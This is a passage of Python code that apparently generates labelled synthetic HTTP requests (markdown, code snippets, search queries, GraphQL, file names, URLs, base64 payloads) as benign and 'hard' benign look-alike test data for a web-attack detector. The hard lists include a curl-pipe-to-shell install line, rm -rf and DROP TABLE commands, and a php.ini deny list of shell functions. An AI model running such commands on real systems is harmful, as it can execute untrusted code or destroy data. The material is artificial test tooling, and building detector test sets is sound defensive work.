        '```json\n{\n  "name": "%s",\n  "version": "%d.%d.%d",\n  "private": true\n}\n```\n'
        % (proj, r.randint(0, 3), r.randint(0, 20), r.randint(0, 9)),
    ]
    hards = [
        "```sql\nDROP TABLE IF EXISTS tmp_import;\nCREATE TABLE tmp_import (id serial PRIMARY KEY, payload jsonb NOT NULL);\n```\n",
        "```bash\ncurl -fsSL https://get.example.dev/install.sh | sh\n```\n",
        "```bash\nrm -rf node_modules package-lock.json && npm install\n```\n",
        '```html\n<script src="https://unpkg.com/htmx.org@2.0.3"></script>\n```\n',
        "<details><summary>Full log</summary>\n\n```\nERROR 1064 (42000): You have an error in your SQL syntax near ''O''Brien'' at line 1\n```\n</details>\n",
        "Config lives in [`../../docs/config.md`](../../docs/config.md) for now.\n",
        '```yaml\nsteps:\n  - uses: actions/checkout@v4\n  - run: echo "//registry.npmjs.org/:_authToken=${{ secrets.NPM_TOKEN }}" > ~/.npmrc\n```\n',
        "```php\n<?php echo htmlspecialchars($name, ENT_QUOTES, 'UTF-8'); ?>\n```\n",
        "```js\nconst el = document.getElementById('out');\nel.textContent = userInput; // never innerHTML\n```\n",
        "Run `SELECT count(*) FROM orders WHERE status = 'open';` before and after the migration and paste both numbers here.\n",
        "```powershell\nGet-ChildItem -Path C:\\logs -Filter *.log | Remove-Item -WhatIf\n```\n",
        "```dockerfile\nFROM python:3.12-slim\nRUN apt-get update && apt-get install -y --no-install-recommends curl && rm -rf /var/lib/apt/lists/*\n```\n",
    ]
    blocks = r.sample(normal, r.randint(2, 4))
    if hard:
        blocks.insert(r.randint(0, len(blocks)), r.choice(hards))
    return "\n".join(blocks)


def gen_markdown(r, b, hard, i):
    md = md_text(r, hard)
    pl = pick_pl(r, [("json", 60), ("multipart", 20), ("form", 15), ("xml", 5)])
    if pl == "json":
        return b(
            pl,
            md,
            hard,
            path=r.choice(
                [
                    "/api/v3/repos/acme/orderbook/issues/%d/comments" % r.randint(1, 900),
                    "/api/issues",
                    "/api/v1/wiki/pages",
                ]
            ),
            param="body",
        )
    if pl == "multipart":
        return b(
            pl,
            md,
            hard,
            path="/api/projects/%d/files" % r.randint(1, 400),
            mp="file",
            fname=r.choice(["README.md", "CHANGELOG.md", "docs/setup.md", "notes.md"]),
            fctype="text/markdown",
            param="file",
            mp_extra=[("commit_message", "Update docs", None, None)],
        )
    if pl == "form":
        return b(pl, md, hard, path="/discussions/%d/reply" % r.randint(1, 999), param="comment[body]")
    return b(pl, md, hard, path="/api/kb/articles", param="body", xml_style=0)


# --------------------------------------------------------------- code ----
CODE_NORMAL = [
    (
        "python",
        "slugify.py",
        'import re\n\n\ndef slugify(text: str) -> str:\n    text = text.lower().strip()\n    return re.sub(r"[^a-z0-9]+", "-", text).strip("-")\n',
    ),
    (
        "python",
        "retry.py",
        'import time\n\n\ndef retry(fn, attempts={n}, delay=0.5):\n    for i in range(attempts):\n        try:\n            return fn()\n        except TimeoutError:\n            time.sleep(delay * 2 ** i)\n    raise RuntimeError("gave up")\n',
    ),
    (
        "javascript",
        "api.js",
        "export async function getOrders(page = 1) {{\n  const res = await fetch(`/api/orders?page=${{page}}&limit={n}`);\n  if (!res.ok) throw new Error(res.statusText);\n  return res.json();\n}}\n",
    ),
    (
        "javascript",
        "debounce.js",
        "function debounce(fn, ms = {n}0) {{\n  let t;\n  return (...args) => {{\n    clearTimeout(t);\n    t = setTimeout(() => fn(...args), ms);\n  }};\n}}\n",
    ),
    (
        "go",
        "main.go",
        'package main\n\nimport "fmt"\n\ntype Order struct {{\n\tID    int\n\tTotal float64\n}}\n\nfunc main() {{\n\to := Order{{ID: {n}, Total: 19.99}}\n\tfmt.Printf("%d %.2f\\n", o.ID, o.Total)\n}}\n',
    ),
    (
        "rust",
        "lib.rs",
        "pub fn median(v: &mut Vec<f64>) -> Option<f64> {{\n    if v.is_empty() {{ return None; }}\n    v.sort_by(|a, b| a.partial_cmp(b).unwrap());\n    let m = v.len() / 2;\n    Some(if v.len() % 2 == 0 {{ (v[m - 1] + v[m]) / 2.0 }} else {{ v[m] }})\n}}\n// {n}\n",
    ),
    (
        "css",
        "button.css",
        ".btn-primary {{\n  background: #1a73e8;\n  border-radius: {n}px;\n  padding: 0.5rem 1rem;\n}}\n.btn-primary:hover {{ filter: brightness(1.1); }}\n",
    ),
    (
        "yaml",
        "docker-compose.yml",
        'services:\n  web:\n    image: nginx:1.27\n    ports:\n      - "80{n}:80"\n  db:\n    image: postgres:16\n    environment:\n      POSTGRES_DB: shop\n',
    ),
    (
        "sql",
        "report.sql",
        "SELECT c.name, SUM(o.total) AS revenue\nFROM orders o\nJOIN customers c ON c.id = o.customer_id\nWHERE o.created_at >= DATE '2026-0{m}-01'\nGROUP BY c.name\nORDER BY revenue DESC\nLIMIT {n};\n",
    ),
    (
        "java",
        "PriceCalc.java",
        "public final class PriceCalc {{\n    public static long withVat(long cents) {{\n        return Math.round(cents * 1.{n});\n    }}\n}}\n",
    ),
    (
        "typescript",
        "types.ts",
        "export interface Customer {{\n  id: string;\n  email: string;\n  tier: 'free' | 'pro' | 'enterprise';\n  seats?: number; // default {n}\n}}\n",
    ),
    (
        "ruby",
        "greeting.rb",
        'class Greeting\n  def initialize(name)\n    @name = name\n  end\n\n  def to_s\n    "Hello, #{{@name}}! You have {n} new messages."\n  end\nend\n',
    ),
    (
        "json",
        "tsconfig.json",
        '{{\n  "compilerOptions": {{\n    "target": "ES2022",\n    "strict": true,\n    "outDir": "dist",\n    "maxNodeModuleJsReadDepth": {n}\n  }}\n}}\n',
    ),
    (
        "kotlin",
        "Money.kt",
        'data class Money(val amount: Long, val currency: String = "EUR") {{\n    operator fun plus(o: Money) = copy(amount = amount + o.amount)\n}}\n// seed {n}\n',
    ),
]
CODE_HARD = [
    (
        "sql",
        "migration.sql",
        "BEGIN;\nALTER TABLE orders ADD COLUMN notes text;\nUPDATE orders SET notes = '' WHERE notes IS NULL;\nDROP TABLE IF EXISTS orders_backup_{n};\nCOMMIT;\n",
    ),
    (
        "sql",
        "cleanup.sql",
        "DELETE FROM sessions WHERE last_seen < NOW() - INTERVAL '30 days';\n-- keep admin sessions\nSELECT COUNT(*) FROM sessions WHERE user_id = {n} OR role = 'admin';\n",
    ),
    (
        "bash",
        "backup.sh",
        '#!/usr/bin/env bash\nset -euo pipefail\ntar -czf "backup-$(date +%F).tgz" ./data && scp backup-*.tgz deploy@10.0.0.{n}:/backups/\nrm -f backup-*.tgz\n',
    ),
    (
        "bash",
        "deploy.sh",
        "#!/bin/sh\ncd /srv/app || exit 1\ngit pull --ff-only && npm ci && npm run build\nsystemctl restart app.service # {n}\n",
    ),
    (
        "python",
        "run.py",
        'import subprocess\n\nout = subprocess.run(["git", "log", "-n", "{n}", "--oneline"], capture_output=True, text=True, check=True)\nprint(out.stdout)\n',
    ),
    (
        "python",
        "config_loader.py",
        'import os, yaml\n\nwith open(os.path.join(os.path.dirname(__file__), "..", "config", "app.yaml")) as f:\n    cfg = yaml.safe_load(f)\nprint(cfg.get("workers", {n}))\n',
    ),
    (
        "javascript",
        "render.js",
        "const tpl = document.querySelector('#row');\nconst row = tpl.content.cloneNode(true);\nrow.querySelector('td').textContent = item.name; // safe, no innerHTML\ndocument.querySelector('tbody').appendChild(row); // {n}\n",
    ),
    (
        "php",
        "header.php",
        "<?php\n$title = htmlspecialchars($page['title'] ?? 'Home', ENT_QUOTES, 'UTF-8');\necho \"<title>{{$title}}</title>\";\n// cache {n}s\n",
    ),
    (
        "java",
        "Shell.java",
        'ProcessBuilder pb = new ProcessBuilder("pg_dump", "--format=c", "shop");\npb.redirectOutput(new File("/backups/shop-{n}.dump"));\nProcess p = pb.start();\n',
    ),
    (
        "yaml",
        "ci.yml",
        'on: [push]\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: echo "${{{{ github.ref_name }}}}" && make test -j{n}\n',
    ),
    (
        "python",
        "jinja_example.py",
        'from jinja2 import Environment, select_autoescape\n\nenv = Environment(autoescape=select_autoescape())\nprint(env.from_string("Hello {{{{ name }}}}!").render(name="World"))  # {n}\n',
    ),
    (
        "javascript",
        "sandbox.js",
        "// eval is disabled by CSP; use JSON.parse instead\nconst data = JSON.parse(raw);\nconsole.log(Object.keys(data).length, {n});\n",
    ),
    (
        "ini",
        "php.ini",
        "; uploads\nupload_max_filesize = {n}M\npost_max_size = 64M\ndisable_functions = exec,passthru,shell_exec,system\n",
    ),
    (
        "nginx",
        "site.conf",
        "location /static/ {{\n    alias /var/www/app/static/;\n    expires {n}d;\n}}\nlocation / {{ proxy_pass http://127.0.0.1:8000; }}\n",
    ),
]


def gen_code(r, b, hard, i):
    lang, fname, tpl = r.choice(CODE_HARD if hard else CODE_NORMAL)
    code = tpl.format(n=r.randint(2, 99), m=r.randint(1, 9))
    pl = pick_pl(r, [("json", 45), ("multipart", 25), ("form", 20), ("xml", 10)])
    if pl == "json":
        return b(
            pl,
            code,
            hard,
            path="/api/gists",
            method="POST",
            doc={
                "description": r.choice(["snippet for the team", "helper", "from the wiki", "draft"]),
                "public": False,
                "files": {fname: {"content": PH}},
            },
        )
    if pl == "multipart":
        return b(
            pl,
            code,
            hard,
            path="/api/snippets/upload",
            mp="file",
            fname=fname,
            fctype="text/plain",
            param="file",
            mp_extra=[("language", lang, None, None)],
        )
    if pl == "form":
        return b(
            pl,
            code,
            hard,
            path="/paste",
            param="content",
            form_extra=[("syntax", lang), ("expire", "1W")],
            no_filler_form=True,
        )
    return b(
        pl,
        code,
        hard,
        path="/api/kb/snippets",
        xml_tpl='<?xml version="1.0" encoding="UTF-8"?>\n<snippet lang="%s" file="%s"><code>%s</code></snippet>'
        % (lang, fname, PH),
    )


# ------------------------------------------------------------- search ----
SEARCH_NORMAL = [
    "wireless headphones",
    "red running shoes size {n}",
    "invoice 2026-{m2}",
    "tax forms {y}",
    "best pizza in berlin",
    "python tutorial for beginners",
    "standing desk oak",
    "gift ideas under {n} euro",
    "how to reset router",
    "return policy",
    "order status {n}{n}",
    "vegan recipes quick",
    "train tickets lyon paris",
    "kids rain jacket",
    "espresso grinder burr",
    "yoga mat non slip",
    "usb c hub 4k",
    "dentist near me open saturday",
    "weather dublin tomorrow",
    "meeting room booking",
    "holiday schedule {y}",
    "parental leave policy",
    "laptop stand aluminium",
    "birthday cake delivery",
    "project alpha roadmap",
    "cheap flights to lisbon",
]
SEARCH_HARD = [
    "select lamp with dimmer",
    "union station parking",
    "drop earrings gold",
    "rm -rf meaning",
    "how to use <div> in html",
    "1=1 puzzle answer",
    "O'Reilly books python",
    "tom & jerry dvd",
    'title:"annual report" AND year:[2019 TO {y}]',
    "status:active and not category:archived",
    '"exact phrase" -excluded',
    "site:example.com filetype:pdf",
    "author:o'brien",
    "name:/joh?n(athan)?/",
    "*.log rotation",
    "(python OR golang) AND remote",
    "error OR exception",
    "C# vs Java performance",
    "cat /etc/hosts windows equivalent",
    "alert() not working in iframe",
    "SELECT DISTINCT postgres slow",
    "script tag async vs defer",
    'Dr. Who\'s "Blink" episode',
    "10% off; free shipping",
    "<3 emoji meaning",
    'price:>100 brand:"Acme"',
    "NOT status:closed AND assignee:me",
    "union select sql tutorial",
    "what is ${HOME} in bash",
    "drop table vs truncate",
    "javascript:void(0) link",
    "../ relative path meaning",
    "exec vs eval python",
    "sleep(5) python",
    "Rock 'n' Roll",
    "vlookup #N/A fix",
    "where=1 and sort=desc",
    "' vs \" in json",
]


def gen_search(r, b, hard, i):
    q = r.choice(SEARCH_HARD if hard else SEARCH_NORMAL).format(
        n=r.randint(3, 45), m2="%02d" % r.randint(1, 12), y=r.choice([2024, 2025, 2026])
    )
    if q in b.seen:
        q = (
            q
            + " "
            + r.choice(["2026", "near me", "review", "cheap", "best", "pdf", "example", "guide", "reddit", "vs"])
        )
    pl = pick_pl(r, [("query", 62), ("json", 18), ("form", 7), ("cookie", 6), ("path", 7)])
    if pl == "query":
        return b(
            pl,
            q,
            hard,
            path=r.choice(["/search", "/api/v1/search", "/products", "/api/kb/search", "/api/tickets"]),
            param=r.choice(["q", "q", "query", "search", "term"]),
            enc=r.choice([None, None, "pct20"]),
        )
    if pl == "json":
        if r.random() < 0.5:
            return b(
                pl, q, hard, path="/api/search", doc={"query": PH, "filters": {"in_stock": True}, "page": 1, "size": 24}
            )
        return b(
            pl,
            q,
            hard,
            path="/logs-*/_search",
            doc={"query": {"query_string": {"query": PH, "default_field": "message"}}, "size": 50},
        )
    if pl == "form":
        return b(pl, q, hard, path="/search", param="q", form_extra=[("scope", "all")], no_filler_form=True)
    if pl == "cookie":
        return b(pl, q, hard, cookie="last_search", path="/search")
    return b(pl, q, hard, path_tpl="/search/{}", path_safe="")


# ------------------------------------------------------------ graphql ----
def gql(r, hard):
    n = r.randint(1, 9999)
    f, l = name(r)
    normal = [
        (
            "GetUser",
            "query GetUser($id: ID!) {\n  user(id: $id) {\n    id\n    name\n    email\n    avatarUrl\n  }\n}",
            {"id": str(n)},
        ),
        (
            "ListOrders",
            "query ListOrders($first: Int!, $after: String) {\n  orders(first: $first, after: $after) {\n    edges { node { id total status createdAt } }\n    pageInfo { hasNextPage endCursor }\n  }\n}",
            {"first": r.choice([10, 20, 50]), "after": None},
        ),
        (
            "AddToCart",
            "mutation AddToCart($sku: String!, $qty: Int!) {\n  addToCart(sku: $sku, quantity: $qty) {\n    cart { id itemCount subtotal }\n  }\n}",
            {"sku": "A-%d" % n, "qty": r.randint(1, 5)},
        ),
        (
            "Product",
            "query Product($slug: String!) { product(slug: $slug) { id title price { amount currency } images(first: 3) { url alt } } }",
            {"slug": r.choice(SLUGS) + "-%d" % n},
        ),
        (
            "UpdateProfile",
            "mutation UpdateProfile($input: ProfileInput!) {\n  updateProfile(input: $input) { id displayName }\n}",
            {"input": {"displayName": "%s %s" % (f, l), "timezone": "Europe/Berlin"}},
        ),
        (
            "Viewer",
            "query Viewer { viewer { login repositories(first: %d, orderBy: {field: UPDATED_AT, direction: DESC}) { nodes { name stargazerCount } } } }"
            % r.choice([5, 10, 20]),
            {},
        ),
        (
            "Search",
            "query Search($term: String!) { search(term: $term, first: 10) { ... on Product { id title } ... on Article { id headline } } }",
            {"term": r.choice(PRODUCTS).lower()},
        ),
        ("Notifications", "subscription Notifications { notificationAdded { id message createdAt } }", {}),
    ]
    hards = [
        (
            "IntrospectionQuery",
            "query IntrospectionQuery {\n  __schema {\n    queryType { name }\n    mutationType { name }\n    types { kind name description fields(includeDeprecated: true) { name } }\n  }\n}",
            {},
        ),
        ("Typename", 'query { node(id: "T3JkZXI6%d") { __typename ... on Order { id status } } }' % n, {}),
        (
            "FindCustomer",
            'query { customers(filter: {lastName: {eq: "%s"}}, first: 5) { id firstName lastName } }'
            % r.choice(["O'Brien", "O'Neill", "D'Angelo", "St. John"]),
            {},
        ),
        (
            "HasuraSearch",
            'query HasuraSearch { users(where: {email: {_ilike: "%%@example.com"}, deleted_at: {_is_null: true}}, limit: %d) { id email } }'
            % r.choice([10, 25]),
            {},
        ),
        (
            "SavePage",
            "mutation SavePage($html: String!) { savePage(id: %d, html: $html) { ok } }" % n,
            {
                "html": '<p>Welcome to <strong>%s</strong> &mdash; <a href="/shop">shop now</a></p>'
                % r.choice(COMPANIES)
            },
        ),
        (
            "Conditional",
            "query Conditional($withPosts: Boolean!) { me { id name posts(first: 5) @include(if: $withPosts) { id title } } }",
            {"withPosts": True},
        ),
        (
            "Report",
            "query Report { salesReport(sql: false, groupBy: [REGION, MONTH], where: {year: {gte: 2025}}) { region month total } }",
            {},
        ),
        (
            "CreateTicket",
            'mutation CreateTicket { createTicket(input: {subject: "Can\'t log in", body: "Password has a \' and a ; in it", priority: HIGH}) { id } }',
            {},
        ),
        ("Aliased", "query Aliased { a: product(id: %d) { price } b: product(id: %d) { price } }" % (n, n + 1), {}),
    ]
    return r.choice(hards if hard else normal)


def gen_graphql(r, b, hard, i):
    op, q, variables = gql(r, hard)
    pl = pick_pl(r, [("json", 80), ("query", 20)])
    path = r.choice(["/graphql", "/api/graphql", "/v1/graphql", "/graphql/v2"])
    if pl == "json":
        if q in b.seen:
            q = (
                q + "\n# client: web-%d" % r.randint(100, 999)
                if r.random() < 0.5
                else "# " + r.choice(["dashboard", "mobile", "admin"]) + "\n" + q
            )
        doc = {"operationName": op, "query": PH, "variables": variables}
        if r.random() < 0.3:
            doc["extensions"] = {"persistedQuery": {"version": 1, "sha256Hash": hashlib.sha256(q.encode()).hexdigest()}}
        return b(pl, q, hard, path=path, method="POST", doc=doc, compact=r.random() < 0.8)
    q2 = " ".join(q.split())
    if q2 in b.seen:
        q2 = q2 + " "
    return b(
        pl,
        q2,
        hard,
        path=path,
        param="query",
        no_filler_q=True,
        extra_q=[("operationName", op)] + ([("variables", compact(variables))] if variables else []),
        q_pos=0,
    )


# -------------------------------------------------------------- files ----
def file_name(r, hard):
    d = "2026%02d%02d" % (r.randint(1, 12), r.randint(1, 28))
    n = r.randint(1, 9999)
    f, l = name(r)
    normal = [
        "Q%d report (final) v%d.xlsx" % (r.randint(1, 4), r.randint(2, 5)),
        "IMG_%s_%06d.jpg" % (d, r.randint(0, 235959)),
        "résumé-%s-%s.pdf" % (f, l.replace("'", "")),
        "backup_%s.tar.gz" % d,
        "Screenshot 2026-12-0%d at %d.%02d.%02d.png"
        % (r.randint(1, 7), r.randint(8, 18), r.randint(0, 59), r.randint(0, 59)),
        "scan%04d.tiff" % n,
        "meeting notes %02d-%02d.docx" % (r.randint(1, 12), r.randint(1, 28)),
        "data_export_%d.csv" % n,
        "photo (%d).heic" % r.randint(1, 9),
        "presentation.final.FINAL.pptx",
        "my-app-%d.%d.%d.tar.gz" % (r.randint(0, 3), r.randint(0, 20), r.randint(0, 9)),
        "config.prod.yaml",
        "export_2026-12-07T10-%02d-00Z.json" % r.randint(0, 59),
        "rapport_annuel_%d.pdf" % r.choice([2024, 2025]),
        "invoice-%d.pdf" % n,
        "logo@2x.png",
        "floor plan – level %d.dwg" % r.randint(1, 6),
        "contract_signed_%s.pdf" % l.replace("'", "").replace(" ", "_"),
    ]
    hards = [
        "Tom's notes; draft %d.txt" % n,
        "2026 Budget - Q1&Q2 (%d).xlsx" % n,
        "id_rsa.pub",
        "web.config.bak",
        ".gitignore",
        "shell-scripting-cheatsheet-v%d.pdf" % r.randint(1, 5),
        "passwd-reset-instructions.pdf",
        "SELECT_results_%d.csv" % n,
        "<draft> proposal v%d.docx" % r.randint(1, 9),
        "index.php.txt",
        "..hidden-notes-%d.md" % n,
        "C:\\fakepath\\invoice-%d.pdf" % n,
        "script.js.map",
        "cmd_reference_%d.pdf" % n,
        "%s's CV (%d).pdf" % (f, r.randint(1, 3)),
        "report #%d & appendix.pdf" % n,
        "D:\\Projects\\Budget %d.xlsx" % r.choice([2026, 2027]),
        "/home/%s/projects/app/src/main.py" % f.lower().replace("ö", "o"),
        "/var/log/app/app-%s.log" % d,
        "./config/settings.%s.yaml" % r.choice(["dev", "staging"]),
        "etc-hosts-template-%d.txt" % n,
    ]
    return r.choice(hards if hard else normal)


def gen_files(r, b, hard, i):
    fn = file_name(r, hard)
    pl = pick_pl(r, [("multipart", 50), ("json", 20), ("query", 12), ("path", 8), ("form", 10)])
    if pl == "multipart" and ("\\" in fn or "/" in fn):
        pl = "json"
    if pl == "path" and "/" in fn and not hard:
        pl = "query"
    ext = fn.rsplit(".", 1)[-1].lower()
    ctype = {
        "jpg": "image/jpeg",
        "png": "image/png",
        "pdf": "application/pdf",
        "csv": "text/csv",
        "txt": "text/plain",
        "json": "application/json",
        "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        "docx": "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
    }.get(ext, "application/octet-stream")
    if pl == "multipart":
        content = {"text/csv": "id,name\n1,Widget\n", "text/plain": "notes\n", "application/json": '{"ok":true}\n'}.get(
            ctype, "\x00\x01binary-ish content\x02"
        )
        return b(
            pl,
            fn,
            hard,
            path=r.choice(["/api/files", "/api/v1/uploads", "/drive/upload", "/api/attachments"]),
            mp="filename",
            fcontent=content,
            fctype=ctype,
            param="file",
            mp_extra=[("folder_id", str(r.randint(1, 999)), None, None)],
        )
    if pl == "json":
        return b(
            pl,
            fn,
            hard,
            path=r.choice(["/api/files/metadata", "/api/v1/documents", "/api/sync/items"]),
            param=r.choice(["name", "path", "filename", "original_name"]),
        )
    if pl == "query":
        return b(
            pl,
            fn,
            hard,
            path=r.choice(["/api/files/search", "/download", "/api/v1/documents/lookup"]),
            param=r.choice(["name", "filename", "path"]),
        )
    if pl == "path":
        return b(pl, fn, hard, path_tpl=r.choice(["/api/v1/files/{}", "/drive/preview/{}", "/files/{}/meta"]))
    return b(
        pl, fn, hard, path="/documents/rename", param="new_name", form_extra=[("doc_id", str(r.randint(100, 9999)))]
    )


# --------------------------------------------------------------- urls ----
def url_val(r, hard):
    n = r.randint(1, 99999)
    normal = [
        "https://app.example.com/oauth/callback",
        "https://www.example.org/blog/2026/12/%s" % r.choice(SLUGS),
        "https://hooks.slack.com/services/T0%s/B0%s/%s"
        % (rand_alnum(r, 8).upper(), rand_alnum(r, 8).upper(), rand_alnum(r, 24)),
        "https://discord.com/api/webhooks/%d/%s" % (r.randint(10**17, 10**18), rand_alnum(r, 40)),
        "/dashboard?tab=billing",
        "/settings/profile",
        "https://docs.python.org/3/library/urllib.parse.html#url-quoting",
        "https://github.com/acme/orderbook/compare/v1.%d.0...v1.%d.0" % (r.randint(0, 9), r.randint(10, 19)),
        "https://www.youtube.com/watch?v=%s&t=%ds" % (rand_alnum(r, 11), r.randint(5, 900)),
        "https://maps.example.com/place/Brandenburger+Tor/@52.5163,13.3777,17z",
        "https://shop.example.com/products/%s-%d?variant=%d" % (r.choice(SLUGS), n, r.randint(10**9, 10**10)),
        "https://status.example.com/incidents/%s" % rand_alnum(r, 12).lower(),
        "https://calendar.example.com/event?eid=%s" % rand_alnum(r, 24),
        "https://partner.example.net/api/v2/webhooks/orders",
    ]
    hards = [
        "https://shop.example.com/p/%d?utm_source=google&utm_medium=cpc&utm_campaign=winter_sale&utm_term=wool+scarf&utm_content=ad_%d&gclid=%s&fbclid=%s"
        % (n, r.randint(1, 9), rand_alnum(r, 40), rand_alnum(r, 30)),
        "http://localhost:3000/auth/callback",
        "http://127.0.0.1:8080/oauth2/callback",
        "https://login.example.com/authorize?response_type=code&client_id=%s&redirect_uri=https%%3A%%2F%%2Fapp.example.com%%2Fcb&scope=openid%%20email&state=%s"
        % (rand_alnum(r, 16), rand_alnum(r, 20)),
        "https://en.wikipedia.org/wiki/SQL_injection",
        "https://owasp.org/www-community/attacks/xss/",
        "https://example.com/search?q=select+*+from&lang=en",
        "https://xn--mnchen-3ya.example/stadtplan",
        "https://münchen.example/veranstaltungen?datum=2026-12-%02d" % r.randint(1, 28),
        "ftp://ftp.example.org/pub/datasets/weather-2026.csv.gz",
        "https://cdn.example.com/assets/app.js?v=%s#L%d" % (rand_hex(r, 8), r.randint(1, 900)),
        "/checkout/return?next=%%2Forders%%2F%d%%3Fpaid%%3D1" % n,
        "https://api.example.com/v1/callback?url=https://partner.example.net/hook&sig=%s" % rand_hex(r, 64),
        "https://docs.example.com/../changelog",
        "https://example.com/path;jsessionid=%s?x=1" % rand_hex(r, 32).upper(),
        "https://user@git.example.com/acme/infra.git",
    ]
    return r.choice(hards if hard else normal)


def gen_urls(r, b, hard, i):
    u = url_val(r, hard)
    pl = pick_pl(
        r, [("query", 35), ("json", 25), ("form", 10), ("header", 10), ("cookie", 7), ("xml", 7), ("multipart", 6)]
    )
    if pl == "header" and not all(32 <= ord(c) < 127 for c in u):
        pl = "json"
    if pl == "query":
        return b(
            pl,
            u,
            hard,
            path=r.choice(["/oauth/authorize", "/login", "/api/link-preview", "/out", "/api/shortener"]),
            param=r.choice(["redirect_uri", "next", "return_to", "url", "continue"]),
        )
    if pl == "json":
        return b(
            pl,
            u,
            hard,
            path=r.choice(["/api/webhooks", "/api/v1/bookmarks", "/api/integrations/slack", "/api/links"]),
            doc={
                "name": r.choice(["orders", "deploys", "alerts", "reading list"]),
                "url": PH,
                "events": ["order.created", "order.paid"],
                "active": True,
            },
        )
    if pl == "form":
        return b(
            pl, u, hard, path="/account/profile", param="website", form_extra=[("display_name", " ".join(name(r)))]
        )
    if pl == "header":
        return b(
            pl,
            u,
            hard,
            hdr=r.choice(["Referer", "Referer", "X-Return-To"]),
            path=r.choice(["/", "/pricing", "/api/session"]),
        )
    if pl == "cookie":
        return b(pl, u, hard, cookie="last_visited", path="/")
    if pl == "xml":
        return b(pl, u, hard, path="/api/feeds/import", param="link", xml_style=0)
    return b(pl, u, hard, path="/api/bookmarks/import", mp="field", param="url")


# ------------------------------------------------------------- base64 ----
def gen_base64(r, b, hard, i):
    kind = r.randrange(8)
    if kind == 0:
        raw = b"\x89PNG\r\n\x1a\n" + bytes(r.randrange(256) for _ in range(r.randint(60, 400 if not hard else 1400)))
        v = "data:image/png;base64," + b64(raw)
        return b("json", v, hard, path="/api/users/me/avatar", param="image", method="PUT")
    if kind == 1:
        raw = b"%PDF-1.7\n" + bytes(r.randrange(256) for _ in range(r.randint(100, 600)))
        v = b64(raw)
        if hard:
            v = "\r\n".join(v[j : j + 76] for j in range(0, len(v), 76))
        return b(
            "json",
            v,
            hard,
            path="/api/v1/messages",
            doc={
                "to": "billing@example.com",
                "attachments": [
                    {"filename": "invoice-%d.pdf" % r.randint(1, 9999), "content_type": "application/pdf", "data": PH}
                ],
            },
        )
    if kind == 2:
        hdr = {"alg": "RS256", "typ": "JWT", "kid": rand_hex(r, 8)}
        pay = {
            "sub": str(r.randint(1000, 99999)),
            "iss": "https://auth.example.com/",
            "aud": "api",
            "iat": 1733500000 + r.randint(0, 90000),
            "exp": 1733590000 + r.randint(0, 90000),
            "scope": "orders:read orders:write",
        }
        if hard:
            pay["name"] = "%s %s" % name(r, ascii_only=True)
            pay["roles"] = ["admin", "billing"]
        tok = b64u(compact(hdr)) + "." + b64u(compact(pay)) + "." + b64u(bytes(r.randrange(256) for _ in range(64)))
        return b(
            "header",
            "Bearer " + tok,
            hard,
            hdr="Authorization",
            path=r.choice(["/api/orders", "/api/me", "/api/v2/reports"]),
        )
    if kind == 3:
        f, l = name(r, ascii_only=True)
        pw = r.choice(["s3cret!", "Winter2026", "p@ss:word", "correct horse battery", "x+y/z=1"]) + str(
            r.randint(1, 99)
        )
        return b(
            "header",
            "Basic " + b64("%s.%s:%s" % (f.lower(), l.lower(), pw)),
            hard,
            hdr="Authorization",
            path="/api/legacy/export",
        )
    if kind == 4:
        sess = b64u(
            compact(
                {
                    "user_id": r.randint(1, 99999),
                    "cart": [r.randint(1, 500) for _ in range(r.randint(0, 4))],
                    "csrf": rand_hex(r, 16),
                }
            )
        )
        v = "%s.%s.%s" % (
            sess,
            b64u(bytes(r.randrange(256) for _ in range(4))),
            b64u(bytes(r.randrange(256) for _ in range(20))),
        )
        return b("cookie", v, hard, cookie="session", path=r.choice(["/cart", "/account", "/"]))
    if kind == 5:
        body = b"\x00" + bytes(r.randrange(256) for _ in range(r.randint(16, 64)))
        v = rand_hex(r, 64)
        return b(
            "header",
            "sha256=" + v,
            hard,
            hdr=r.choice(["X-Hub-Signature-256", "X-Signature"]),
            path="/webhooks/github",
            method="POST",
            body_override=("application/json", '{"action":"opened","number":%d}' % r.randint(1, 999)),
        )
    if kind == 6:
        raw = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + bytes(r.randrange(256) for _ in range(r.randint(80, 500)))
        v = b64(raw)
        return b(
            "multipart",
            v,
            hard,
            mp="field",
            param="photo_base64",
            path="/api/claims/photos",
            mp_extra=[("claim_id", "CLM-%d" % r.randint(10000, 99999), None, None)],
        )
    raw = (
        "id,name,total\n"
        + "\n".join(
            "%d,%s,%d.%02d" % (j, r.choice(PRODUCTS), r.randint(1, 500), r.randint(0, 99))
            for j in range(1, r.randint(3, 8))
        )
    ).encode()
    v = b64(raw)
    return b("form", v, hard, path="/api/imports", param="file_b64", form_extra=[("format", "csv")])


# ----------------------------------------------------------- api json ----
def api_obj(r, hard):
    n = r.randint(1, 99999)
    f, l = name(r)
    city, zipc, cc = r.choice(CITIES)
    normal = [
        lambda: {
            "order": {
                "id": n,
                "items": [
                    {"sku": "A-%d" % r.randint(100, 999), "qty": r.randint(1, 4), "price": round(r.uniform(3, 200), 2)}
                    for _ in range(r.randint(1, 3))
                ],
                "currency": "EUR",
                "shipping": {
                    "name": "%s %s" % (f, l),
                    "street": "%d %s" % (r.randint(1, 200), r.choice(STREETS)),
                    "city": city,
                    "zip": zipc,
                    "country": cc,
                },
            }
        },
        lambda: {
            "filter": {
                "status": r.sample(["open", "pending", "paid", "shipped"], 2),
                "created_at": {"gte": "2026-11-01", "lt": "2026-12-01"},
            },
            "sort": [{"field": "created_at", "dir": "desc"}],
            "page": {"size": r.choice([25, 50, 100]), "cursor": b64u(compact({"id": n}))},
        },
        lambda: {
            "user": {
                "first_name": f,
                "last_name": l,
                "email": "%s.%s@example.com" % (f.lower(), r.choice(ASCII_LAST).lower()),
                "marketing_opt_in": r.random() < 0.5,
                "locale": "en-GB",
            }
        },
        lambda: {
            "event": "page_view",
            "properties": {
                "path": "/products/%s" % r.choice(SLUGS),
                "referrer": "https://www.google.com/",
                "screen": "1920x1080",
            },
            "timestamp": "2026-12-07T10:%02d:%02dZ" % (r.randint(0, 59), r.randint(0, 59)),
        },
        lambda: {
            "inventory": [
                {
                    "sku": "B-%d" % r.randint(100, 999),
                    "warehouse": r.choice(["BER1", "DUB2", "AUS1"]),
                    "delta": r.randint(-20, 50),
                }
                for _ in range(r.randint(1, 4))
            ]
        },
        lambda: {
            "subscription": {
                "plan": r.choice(["starter", "team", "business"]),
